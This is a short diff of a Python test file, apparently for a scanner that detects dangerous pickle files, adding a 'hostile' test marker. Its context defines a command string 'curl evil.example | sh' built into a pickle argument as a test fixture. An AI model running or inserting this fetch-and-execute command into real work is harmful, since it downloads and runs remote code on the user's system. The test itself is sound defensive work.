@@ -11,6 +11,8 @@ import zips
 from pickles import call, dict_of, integer, named, storage, stream, tensor, text
 from program import NO, YES, run, scan, verdict
 
+pytestmark = pytest.mark.hostile
+
 DATA = struct.pack("<6f", *range(6))
 COMMAND = "curl evil.example | sh"
 ARGUMENTS = pickles.tuple_of(text(COMMAND))
